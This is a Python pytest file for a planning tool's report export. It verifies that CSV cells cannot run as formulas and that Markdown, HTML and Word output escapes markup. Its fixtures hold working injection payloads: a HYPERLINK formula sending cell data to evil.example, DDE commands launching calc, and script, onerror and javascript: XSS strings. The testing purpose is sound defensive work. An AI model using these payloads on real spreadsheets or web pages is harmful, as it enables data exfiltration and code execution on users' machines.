"""The board report shows plan text as text: no formulas in the CSV, no markup in Markdown or
HTML, and Word opens it whatever was pasted into a note."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from docx import Document
from markdown_it import MarkdownIt
from sqlmodel import select
from typer.testing import Result

from handlers.chat.context import AppContext
from handlers.importing.importer import import_file
from handlers.plans.report import csv_cell
from models.db import transaction
from models.tables import Action, ProgressNote, Status
from tests.conftest import LONDON

Cli = Callable[..., Result]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "+cmd|' /C calc'!A0"
SCRIPT = "Review <script>alert(1)</script> area committees"
IMG = 'Map assets <img src=x onerror="alert(1)">'
LINK = "Read [the guide](javascript:alert(1)) & **act** | now_"
ROWS = [
    ["Ref", "Recommendation", "Responsible officer", "Target Date", "Measure"],
    ["@Theme: =1+1", "", "", "", ""],
    ["S1", HYPERLINK, "Engagement Officer", "31/03/2027", "-5%"],
    ["S2", DDE, "Engagement Officer", "31/03/2027", "-5% uptake"],
    ["S3", "@SUM(1+1)*cmd|' /C calc'!A0", "Engagement Officer", "31/03/2027", "-2+3"],
    ["S4", SCRIPT, "Engagement Officer", "31/03/2027", "+3"],
    ["S5", IMG, "Engagement Officer", "31/03/2027", ""],
    ["S6", LINK, "Engagement Officer", "31/03/2027", ""],
]


@pytest.fixture
def plan(ctx: AppContext, tmp_path: Path) -> AppContext:
    sheet = tmp_path / "steering.csv"
    with sheet.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(ROWS)
    import_file(ctx, sheet, plan_name="steering", title="Steering <b>group</b> plan")
    return ctx


def _report(cli: Cli, tmp_path: Path, fmt: str) -> Path:
    path = tmp_path / f"report.{fmt}"
    result = cli("report", "--plan", "steering", "--format", fmt, "--out", str(path))
    assert result.exit_code == 0, result.output
    return path


def test_no_csv_cell_can_run_as_a_formula_and_numbers_read_as_numbers(
    plan: AppContext, cli: Cli, tmp_path: Path
) -> None:
    rows = list(csv.reader(_report(cli, tmp_path, "csv").open(encoding="utf-8-sig")))
    cells = {row[1]: row for row in rows[1:]}
    assert cells["S1"][0] == "'@Theme: =1+1"
    assert cells["S1"][2] == "'" + HYPERLINK
    assert cells["S2"][2] == "'" + DDE
    assert cells["S3"][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert [cells[ref][5] for ref in ("S1", "S2", "S3", "S4")] == [
        "-5%",
        "'-5% uptake",
        "'-2+3",
        "+3",
    ]
    runnable = ("=", "+", "-", "@", "\t", "\r")
    plain_numbers = {"-5%", "+3"}
    assert not [c for r in rows for c in r if c.startswith(runnable) and c not in plain_numbers]
    # cells a sheet can't carry in (import strips them) but a note might: tab and CR first
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("\uff1d1+1") == "'\uff1d1+1" and csv_cell("-1,250.50") == "-1,250.50"


def test_markdown_shows_html_links_and_emphasis_as_the_words_written(
    plan: AppContext, cli: Cli, tmp_path: Path
) -> None:
    text = _report(cli, tmp_path, "md").read_text(encoding="utf-8")
    for raw in ("<script>", "<img", "[the guide](", "**act**", "<b>"):
        assert raw not in text
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    for raw in ("<script>", "<img", "<a ", "<strong>act", "<b>"):
        assert raw not in rendered
    shown = rendered.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
    shown = shown.replace("&amp;", "&")
    for written in (SCRIPT, IMG, LINK, HYPERLINK, "Steering <b>group</b> plan"):
        assert written in shown


def test_html_escapes_every_cell(plan: AppContext, cli: Cli, tmp_path: Path) -> None:
    text = _report(cli, tmp_path, "html").read_text(encoding="utf-8")
    for raw in ("<script>", "<img", "<b>group"):
        assert raw not in text
    assert "Map assets &lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in text


def test_word_opens_a_note_holding_control_characters(
    plan: AppContext, cli: Cli, tmp_path: Path
) -> None:
    with transaction(plan.engine) as session:  # as stored before notes were cleaned on the way in
        s4 = session.exec(select(Action).where(Action.ref == "S4")).one()
        session.add(
            ProgressNote(
                action_id=s4.id or 0,
                created_at=datetime(2026, 11, 20, 9, 0, tzinfo=LONDON),
                author_name="Sam Patel",
                text="Pasted from the old system:\x01 done\x0bnext line",
                status=Status.IN_PROGRESS,
                source="chat",
            )
        )
    document = Document(str(_report(cli, tmp_path, "docx")))
    cells = [c.text for table in document.tables for row in table.rows for c in row.cells]
    assert any("20/11/2026: Pasted from the old system: done next line" in c for c in cells)
